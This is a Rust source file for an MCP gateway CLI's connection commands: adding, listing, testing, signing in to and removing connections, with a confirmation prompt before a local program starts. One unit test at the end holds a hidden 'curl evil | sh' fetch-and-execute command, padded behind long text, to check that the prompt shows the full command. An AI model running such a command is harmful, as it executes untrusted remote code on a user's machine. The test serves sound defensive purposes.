//! The systems behind the gateway.

mod upkeep;

use std::{
    io::{self, IsTerminal as _},
    time::{Duration, Instant},
};

use agw_api::{
    Account, AccountState, Connection, ConnectionDetail, ConnectionHealth, NewConnection,
    NewSignIn, SignInKind, TestReport, Transport, segment,
};
use serde::Serialize;

use crate::args::{ConnectionAdd, ConnectionCommand, IfVersion, SignInBy};
use crate::confirm::confirm;
use crate::context::{Context, at_version};
use crate::error::CliError;
use crate::output::{count, word};
use crate::secrets::SecretInput;

/// How long a sign-in with a browser is waited for, and how often it is looked.
const SIGN_IN_PATIENCE: Duration = Duration::from_secs(15 * 60);
const SIGN_IN_LOOK: Duration = Duration::from_secs(1);

pub(crate) async fn run(context: &Context<'_>, command: ConnectionCommand) -> Result<(), CliError> {
    match command {
        ConnectionCommand::Add(args) => add(context, args).await,
        ConnectionCommand::List => list(context).await,
        ConnectionCommand::Show { name } => show(context, &name).await,
        ConnectionCommand::Test { name } => test(context, &name).await,
        ConnectionCommand::Edit(args) => upkeep::edit(context, args).await,
        ConnectionCommand::Restart { name } => upkeep::restart(context, &name).await,
        ConnectionCommand::Logs { name, follow } => upkeep::logs(context, &name, follow).await,
        ConnectionCommand::SignIn { name } => sign_in(context, &name).await,
        ConnectionCommand::SignOut { name, user } => sign_out(context, &name, user).await,
        ConnectionCommand::Remove { name, seen } => remove(context, &name, seen).await,
    }
}

fn path(name: &str) -> String {
    format!("/api/v1/connections/{}", segment(name))
}

async fn add(context: &Context<'_>, args: ConnectionAdd) -> Result<(), CliError> {
    // The parser lets exactly one transport through, and only its own secrets.
    let (transport, names, fold_case) = match args.http {
        Some(url) => (Transport::Http { url }, args.header, true),
        None => (Transport::Stdio { argv: args.command }, args.env, false),
    };
    // A script has given the whole command itself, and has nobody to ask.
    if let Some(what) = starts(&transport)
        && io::stdin().is_terminal()
    {
        confirm(&what, args.sure.yes)?;
    }
    // Stdin is left alone where no secret is expected.
    let credentials = if names.is_empty() {
        Vec::new()
    } else {
        SecretInput::new(false).credentials(&names, fold_case)?
    };
    let client_secret = args.client_secret_stdin.then(|| {
        let secret = SecretInput::new(true).ask("client secret")?;
        Ok::<_, CliError>(secret.into_body())
    });
    let client_secret = client_secret.transpose()?;
    let kind = args.sign_in.map(|by| match by {
        SignInBy::Team => SignInKind::Team,
        SignInBy::User => SignInKind::User,
    });
    let sign_in = kind.map(|kind| NewSignIn { kind, client_id: args.client_id, client_secret });
    let request = NewConnection { name: args.name, transport, credentials, sign_in };
    let added: Connection = context.client.post("/api/v1/connections", &request).await?;
    context.output.item(&added, || format!("Added {}.", summary(&added)))?;
    match added.health {
        ConnectionHealth::Ready => {}
        ConnectionHealth::Connecting => {
            context
                .output
                .hint(&format!("See how it goes with `agw connection show {}`.", added.name));
        }
        ConnectionHealth::NeedsSignIn => context
            .output
            .hint(&format!("Connect an account with `agw connection sign-in {}`.", added.name)),
        ConnectionHealth::Failed | ConnectionHealth::Sealed => context.output.hint(&format!(
            "It stays added and is tried again; `agw connection show {}` has the details.",
            added.name
        )),
    }
    Ok(())
}

async fn list(context: &Context<'_>) -> Result<(), CliError> {
    let connections: Vec<Connection> = context.client.get("/api/v1/connections").await?;
    let accounts: Vec<Account> = context.client.get("/api/v1/accounts").await?;
    context.output.list(
        &connections,
        &["NAME", "HEALTH", "OFFERS", "SECRETS", "ACCOUNTS", "REACHED BY", "PROBLEM"],
        |connection| {
            vec![
                connection.name.clone(),
                health(connection),
                offers(connection.tools, connection.prompts, connection.resources),
                connection.credentials.join(", "),
                accounts_text(&accounts, &connection.name),
                transport_text(&connection.transport),
                connection.problem.clone().unwrap_or_default(),
            ]
        },
        "There are no connections yet: `agw connection add --help` shows how to add one.",
    )
}

/// `team`, `ana, bo (reconnect)`; nothing where nobody signs in.
fn accounts_text(accounts: &[Account], connection: &str) -> String {
    let of_it = accounts.iter().filter(|account| account.connection == connection);
    let connected = of_it.filter(|account| account.state != AccountState::NotConnected);
    let shown: Vec<String> = connected
        .map(|account| {
            let again = match account.state {
                AccountState::Reconnect => " (reconnect)",
                AccountState::Connected | AccountState::NotConnected => "",
            };
            format!("{}{again}", account.user.as_deref().unwrap_or("team"))
        })
        .collect();
    shown.join(", ")
}

/// The account that whoever is signed in here may connect.
async fn own_account(context: &Context<'_>, name: &str) -> Result<Account, CliError> {
    let accounts: Vec<Account> = context.client.get("/api/v1/accounts").await?;
    let own = accounts.into_iter().find(|account| account.own && account.connection == name);
    own.ok_or_else(|| {
        CliError::failed(
            "not_found",
            format!("there is no account of yours to connect with {name}"),
            "An admin connects the team's account; your own needs a grant of one of its tools.",
        )
    })
}

async fn sign_in(context: &Context<'_>, name: &str) -> Result<(), CliError> {
    let before = own_account(context, name).await?;
    context.output.hint(&format!("Open this link in a browser and sign in:\n  {}", before.link));
    let begun = Instant::now();
    while begun.elapsed() < SIGN_IN_PATIENCE {
        tokio::time::sleep(SIGN_IN_LOOK).await;
        let now = own_account(context, name).await?;
        if now.state == AccountState::Connected && now.connected_at != before.connected_at {
            return context.output.item(&now, || format!("The account with {name} is connected."));
        }
    }
    Err(CliError::failed(
        "not_connected",
        format!("nobody signed in to {name} within 15 minutes"),
        "Run the command again for as long as you need; the link stays the same.",
    ))
}

async fn sign_out(context: &Context<'_>, name: &str, user: Option<String>) -> Result<(), CliError> {
    #[derive(Serialize)]
    struct Disconnected<'a> {
        disconnected: &'a str,
    }

    let whose = user.map(|user| format!("?user={}", segment(&user))).unwrap_or_default();
    context.client.delete(&format!("/api/v1/accounts/{}{whose}", segment(name))).await?;
    let done = Disconnected { disconnected: name };
    context.output.item(&done, || format!("Disconnected the account with {name}."))
}

async fn show(context: &Context<'_>, name: &str) -> Result<(), CliError> {
    let detail: ConnectionDetail = context.client.get(&path(name)).await?;
    context.output.item(&detail, || {
        let connection = &detail.connection;
        let mut text = format!(
            "{}\n  since       {}\n  reached by  {}\n  secrets     {}\n  started     {} since the service came up",
            summary(connection),
            connection.health_since,
            transport_text(&connection.transport),
            if connection.credentials.is_empty() {
                "none".into()
            } else {
                connection.credentials.join(", ")
            },
            count(detail.starts, "time"),
        );
        for refused in &connection.refused_tools {
            text.push_str(&format!("\n  not offered {}: {}", refused.name, refused.reason));
        }
        if let Some(last) = &connection.last_error
            && connection.problem.is_none()
        {
            text.push_str(&format!("\n  last error  {}: {}", last.at, last.problem));
        }
        text
    })?;
    context.output.hint(&format!("`agw connection logs {name}` has what happened lately."));
    Ok(())
}

/// `fs: ready, 14 tools`, or what is wrong.
fn summary(connection: &Connection) -> String {
    let tools = offers(connection.tools, connection.prompts, connection.resources);
    let problem = connection.problem.as_deref().map(|why| format!(": {why}")).unwrap_or_default();
    format!("{}: {}, {tools}{problem}", connection.name, health(connection))
}

/// `14 tools`; `14 tools, 2 prompts, 1 resource` where there are others.
fn offers(tools: u32, prompts: u32, resources: u32) -> String {
    let others = [(prompts, "prompt"), (resources, "resource")];
    let others = others.into_iter().filter(|(number, _)| *number > 0);
    [(tools, "tool")]
        .into_iter()
        .chain(others)
        .map(|(n, noun)| count(n, noun))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `ready`; `ready, paused` where an admin stopped the calls to it.
fn health(connection: &Connection) -> String {
    let paused = if connection.paused { ", paused" } else { "" };
    format!("{}{paused}", word(&connection.health))
}

/// What a person agrees to before a program is started on their machine: all of
/// the command (MCP, security best practices, "Local MCP Server Compromise").
fn starts(transport: &Transport) -> Option<String> {
    matches!(transport, Transport::Stdio { .. }).then(|| {
        let command = transport_text(transport);
        format!(
            "The gateway will start this program, with all the rights of the account it runs as. \
             Add it only if you trust it: {command}"
        )
    })
}

/// The command as a person would type it, or the URL.
pub(crate) fn transport_text(transport: &Transport) -> String {
    match transport {
        Transport::Http { url } => url.clone(),
        Transport::Stdio { argv } => argv
            .iter()
            .map(|word| {
                let plain = |c: char| c.is_alphanumeric() || "@%+=:,./_-".contains(c);
                if !word.is_empty() && word.chars().all(plain) {
                    word.clone()
                } else {
                    format!("'{}'", word.replace('\'', r"'\''"))
                }
            })
            .collect::<Vec<_>>()
            .join(" "),
    }
}

async fn test(context: &Context<'_>, name: &str) -> Result<(), CliError> {
    let report: TestReport = context.client.post(&format!("{}/test", path(name)), &()).await?;
    reported(context, name, &report)
}

/// Says what came of a start.
fn reported(context: &Context<'_>, name: &str, report: &TestReport) -> Result<(), CliError> {
    if report.ok {
        return context.output.item(report, || {
            format!(
                "{name} works: {} (MCP {}) answered in {} ms with {}.",
                report.server.as_deref().unwrap_or("a server without a name"),
                report.protocol.as_deref().unwrap_or("of unknown revision"),
                report.duration_ms,
                offers(report.tools, report.prompts, report.resources),
            )
        });
    }
    if context.output.json() {
        context.output.item(report, String::new)?;
    }
    Err(CliError::failed(
        "connection_failed",
        format!("{name} does not work: {}", report.problem.as_deref().unwrap_or("no reason given")),
        format!("`agw connection logs {name}` has what happened lately."),
    ))
}

async fn remove(context: &Context<'_>, name: &str, seen: IfVersion) -> Result<(), CliError> {
    #[derive(Serialize)]
    struct Removed<'a> {
        removed: &'a str,
    }

    context.client.delete(&at_version(&path(name), seen.if_version)).await?;
    context.output.item(&Removed { removed: name }, || format!("Removed {name} and its secrets."))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prompts_and_resources_are_counted_beside_tools() {
        assert_eq!(offers(14, 0, 0), "14 tools");
        assert_eq!(offers(0, 2, 1), "0 tools, 2 prompts, 1 resource");
    }

    #[test]
    fn commands_are_shown_as_typed() {
        let argv = ["npx", "-y", "a b", "it's", ""].map(str::to_owned).to_vec();
        assert_eq!(transport_text(&Transport::Stdio { argv }), r"npx -y 'a b' 'it'\''s' ''");
    }

    #[test]
    fn a_command_is_shown_whole_before_it_is_started() {
        let long = "x".repeat(20_000);
        let argv = ["sh".into(), "-c".into(), format!("{long}; curl evil | sh")].to_vec();
        let asked = starts(&Transport::Stdio { argv }).unwrap();
        assert!(asked.ends_with(&format!("trust it: sh -c '{long}; curl evil | sh'")), "{asked}");
        assert_eq!(starts(&Transport::Http { url: "https://x.example".into() }), None);
    }
}
